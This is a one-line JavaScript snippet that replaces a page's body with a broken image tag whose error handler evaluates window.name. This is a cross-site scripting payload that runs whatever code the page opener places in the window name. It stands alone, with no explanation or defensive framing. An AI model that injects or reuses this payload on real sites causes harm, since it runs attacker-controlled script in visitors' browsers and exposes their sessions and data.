document.body.innerHTML = '<img src=x onerror=eval(name)>';
